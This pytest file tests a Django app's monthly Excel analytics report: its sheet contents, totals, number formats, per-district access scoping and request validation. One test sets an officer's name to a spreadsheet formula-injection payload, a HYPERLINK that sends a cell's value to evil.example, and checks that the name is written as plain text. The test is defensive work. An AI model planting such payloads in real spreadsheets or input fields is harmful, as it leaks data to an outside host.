"""The monthly Excel report: stored by the job, downloaded in scope, opening with openpyxl."""

import io
import zipfile

import openpyxl
import pytest

from analytics.metrics import METRICS, Dimension
from analytics.models import MonthlyReport, ReportWorkbook
from analytics.monthly import monthly_analysis_run
from common.periods import Month

pytestmark = pytest.mark.usefixtures("mid_november")

OCTOBER = Month(2026, 10)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def analysed(october):
    monthly_analysis_run(month=OCTOBER)
    return october


def workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return openpyxl.load_workbook(
        io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
    )


def table(sheet) -> dict[str, dict[str, object]]:
    """First column → {header: value} for every row below the header."""
    rows = list(sheet.iter_rows(values_only=True))
    headers = rows[0]
    return {row[0]: dict(zip(headers, row, strict=True)) for row in rows[1:]}


# The hand-built October's zone figures, worked out by hand in tests/analytics/test_monthly.py
# (not read back from the snapshot the workbook's 合计 rows are written from).
OCTOBER_ZONE = {
    "enterprises": 3,
    "visits": 3,
    "visited_enterprises": 2,
    "visit_coverage": 0.6667,
    "tracking_done": 5,
    "issues_opened": 5,
    "issues_overdue": 1,
    "on_time_rate": 0.3333,
    "output_value": 1100.5,
}


def snapshot(scope_type: str, scope_id) -> dict:
    return MonthlyReport.objects.get(month=OCTOBER.first_day, scope_type=scope_type, scope_id=str(scope_id)).metrics


def test_the_job_stores_one_workbook_for_the_zone_and_one_per_district(analysed):
    stored = ReportWorkbook.objects.order_by("scope_type", "scope_id")
    assert [(w.scope_type, w.district_id) for w in stored] == [
        ("district", analysed.district_a.pk),
        ("district", analysed.district_b.pk),
        ("zone", None),
    ]
    assert all(w.file.storage.exists(w.file.name) and w.size > 0 for w in stored)
    names = {w.file.name for w in stored}
    monthly_analysis_run(month=OCTOBER)
    assert {w.file.name for w in ReportWorkbook.objects.all()} == names  # replaced, not added
    assert ReportWorkbook.objects.count() == 3


def test_zone_workbook_opens_and_adds_up(analysed, client_for):
    response = client_for(analysed.manager).get("/analytics/reports/monthly.xlsx?month=2026-10")
    assert "attachment" in response["Content-Disposition"]
    book = workbook(response)
    assert book.sheetnames == [
        "园区汇总",
        "片区",
        "网格工作组",
        "企业分类",
        "行业",
        "问题类别",
        "承办科室",
        "网格员排名",
        "累计成效",
        "应急事件",
    ]
    zone = OCTOBER_ZONE

    summary = {row[0]: row[1] for row in book["园区汇总"].iter_rows(min_row=3, values_only=True)}
    for key in ("enterprises", "visits", "visit_coverage", "issues_opened", "on_time_rate", "output_value"):
        assert summary[str(METRICS[key].label)] == zone[key]
    assert (summary["贷款"], summary["争取支持资金"]) == (0, 0)  # no platform or funding record in October

    districts = table(book["片区"])
    assert set(districts) == {"甲片区", "乙片区", "合计"}
    for key in ("enterprises", "visits", "visited_enterprises", "tracking_done", "issues_opened", "issues_overdue"):
        heading = METRICS[key].heading
        assert districts["合计"][heading] == zone[key]
        assert districts["甲片区"][heading] + districts["乙片区"][heading] == zone[key]
    assert districts["合计"]["走访覆盖率"] == zone["visit_coverage"]
    grids = table(book["网格工作组"])
    assert grids["合计"]["企业数（家）"] == 3 == grids["甲网格"]["企业数（家）"] + grids["乙网格"]["企业数（家）"]
    tiers = table(book["企业分类"])
    assert sum(tiers[name]["企业数（家）"] for name in ("龙头企业", "骨干企业", "成长型企业", "困难企业")) == 3
    categories = table(book["问题类别"])
    assert (
        categories["合计"]["新增问题（件）"]
        == 5
        == sum(row["新增问题（件）"] for name, row in categories.items() if name != "合计")
    )
    ranking = list(book["网格员排名"].iter_rows(min_row=2, values_only=True))
    assert [(rank, name, score) for rank, name, _grid, score, *_rest in ranking] == [
        (1, "张网格", 73.0),
        (2, "陈网格", 45.0),
    ]


def test_formats_frozen_headers_and_widths(analysed, client_for):
    book = workbook(client_for(analysed.manager).get("/analytics/reports/monthly.xlsx?month=2026-10"))
    for sheet in book:
        assert sheet.freeze_panes in ("B2", "B3")
        assert sheet.column_dimensions["A"].width >= 20
    districts = book["片区"]
    headers = [cell.value for cell in districts[1]]
    row = districts[2]
    assert row[headers.index("走访覆盖率")].number_format == "0.0%"
    assert row[headers.index("产值（万元）")].number_format == "#,##0.00"
    assert row[headers.index("贷款（亿元）")].number_format == "#,##0.00"
    assert row[headers.index("企业数（家）")].number_format == "#,##0"
    assert districts[1][0].font.bold


def test_an_amount_names_its_unit_once_in_the_unit_column_or_heading_never_in_the_format(analysed, client_for):
    """Given the zone's October report, when it is opened, then 万元 and 亿元 appear in the summary's
    unit column and the tables' headings, and no cell's number format repeats them."""
    book = workbook(client_for(analysed.manager).get("/analytics/reports/monthly.xlsx?month=2026-10"))

    summary = {row[0].value: row for row in book["园区汇总"].iter_rows(min_row=3)}
    output = summary["产值"]
    assert (output[1].value, output[1].number_format, output[2].value) == (1100.5, "#,##0.00", "万元")
    assert summary["贷款"][2].value == "亿元"
    coverage = summary["走访覆盖率"]
    assert (coverage[1].number_format, coverage[2].value) == ("0.0%", None)  # the format shows the %
    assert summary["企业数"][2].value == "家"
    formats = {cell.number_format for sheet in book for row in sheet.iter_rows() for cell in row}
    assert not [number_format for number_format in formats if "万元" in number_format or "亿元" in number_format]


def test_the_district_tier_sheet_has_the_columns_of_the_zone_tier_sheet(analysed, client_for):
    """Given October in district A (a leading and a growth enterprise), when its leader opens the
    report, then 企业分类 has the zone edition's columns, with the district's own figures and 合计."""
    zone_book = workbook(client_for(analysed.manager).get("/analytics/reports/monthly.xlsx?month=2026-10"))
    district_book = workbook(client_for(analysed.leader_a).get("/analytics/reports/monthly.xlsx?month=2026-10"))

    zone_headers = [cell.value for cell in zone_book["企业分类"][1]]
    district_headers = [cell.value for cell in district_book["企业分类"][1]]
    assert district_headers == zone_headers
    assert len(district_headers) == 14
    tiers = table(district_book["企业分类"])
    assert list(tiers) == ["龙头企业", "骨干企业", "成长型企业", "困难企业", "合计"]
    figures = {
        name: (row["企业数（家）"], row["走访次数（次）"], row["新增问题（件）"], row["产值（万元）"])
        for name, row in tiers.items()
    }
    assert figures == {
        "龙头企业": (1, 0, 1, 1000.0),
        "骨干企业": (0, 0, 0, "—"),  # no output reported: no base, as in the zone edition
        "成长型企业": (1, 2, 2, 100.5),
        "困难企业": (0, 0, 0, "—"),
        "合计": (2, 2, 3, 1100.5),
    }
    assert district_book["企业分类"].freeze_panes == "B2"


def test_names_in_the_workbook_are_text_never_formulas(cast, october, client_for):
    """Given an officer whose name is a formula, when the month is analysed and the report opened,
    then the ranking shows the literal name and the file holds no formula at all."""
    payload = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
    october.officer_a.name = payload
    october.officer_a.save()
    monthly_analysis_run(month=OCTOBER)

    response = client_for(october.manager).get("/analytics/reports/monthly.xlsx?month=2026-10")
    content = b"".join(response.streaming_content)

    ranking = {
        row[1].value: row[1] for row in openpyxl.load_workbook(io.BytesIO(content))["网格员排名"].iter_rows(min_row=2)
    }
    assert ranking[payload].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_district_leader_gets_his_district_only(analysed, client_for):
    client = client_for(analysed.leader_a)
    book = workbook(client.get("/analytics/reports/monthly.xlsx?month=2026-10"))
    assert book.sheetnames == [
        "片区汇总",
        "网格工作组",
        "企业分类",
        "问题类别",
        "承办科室",
        "网格员排名",
        "累计成效",
        "应急事件",
    ]
    text = " ".join(str(value) for sheet in book for row in sheet.iter_rows(values_only=True) for value in row)
    assert "甲片区" in text and "甲网格" in text and "张网格" in text
    assert "乙" not in text and "陈网格" not in text
    grids = table(book["网格工作组"])
    assert grids["合计"]["企业数（家）"] == snapshot(Dimension.DISTRICT, analysed.district_a.pk)["enterprises"] == 2
    assert (
        client.get(f"/analytics/reports/monthly.xlsx?month=2026-10&district={analysed.district_b.pk}").status_code
        == 404
    )


@pytest.mark.parametrize("persona", ["officer_a", "bureau_user_x", "enterprise_user_a"])
def test_other_roles_get_no_workbook(analysed, client_for, persona):
    client = client_for(getattr(analysed, persona))
    assert client.get("/analytics/reports/monthly.xlsx?month=2026-10").status_code == 404
    url = f"/analytics/reports/monthly.xlsx?month=2026-10&district={analysed.district_a.pk}"
    assert client.get(url).status_code == 404


def test_this_month_so_far_is_built_on_demand(analysed, client_for):
    response = client_for(analysed.manager).get("/analytics/reports/monthly.xlsx")
    assert "%E6%9C%AC%E6%9C%88%E8%87%B3%E4%BB%8A" in response["Content-Disposition"]  # 本月至今
    assert workbook(response)["园区汇总"]["A1"].value == "经开区 2026年11月 月度分析"
    assert not ReportWorkbook.objects.filter(month=Month(2026, 11).first_day).exists()


def test_a_month_never_analysed_is_not_found(cast, client_for):
    assert client_for(cast.manager).get("/analytics/reports/monthly.xlsx?month=2026-09").status_code == 404


def test_api_download_has_the_same_scope(analysed, client_for):
    manager = client_for(analysed.manager)
    book = workbook(manager.get("/api/reports/monthly/workbook/?month=2026-10"))
    assert book.sheetnames[0] == "园区汇总"
    leader = client_for(analysed.leader_a)
    assert workbook(leader.get("/api/reports/monthly/workbook/?month=2026-10")).sheetnames[0] == "片区汇总"
    assert (
        leader.get(f"/api/reports/monthly/workbook/?month=2026-10&district={analysed.district_b.pk}").status_code == 404
    )
    assert manager.get("/api/reports/monthly/workbook/").status_code == 400
    assert manager.get("/api/reports/monthly/workbook/?month=2026-13").status_code == 400
    assert manager.get("/api/reports/monthly/workbook/?month=2027-02").status_code == 400
    assert manager.get("/api/reports/monthly/workbook/?month=2026-10&district=x").status_code == 400
    assert manager.get("/api/reports/monthly/workbook/?month=2026-09").status_code == 404
    assert client_for(analysed.officer_a).get("/api/reports/monthly/workbook/?month=2026-10").status_code == 404


@pytest.mark.parametrize(("query", "status"), [("month=2026-13", 400), ("month=2027-01", 400), ("district=abc", 404)])
def test_a_bad_download_request_is_refused(analysed, client_for, query, status):
    response = client_for(analysed.manager).get(f"/analytics/reports/monthly.xlsx?{query}")
    assert response.status_code == status
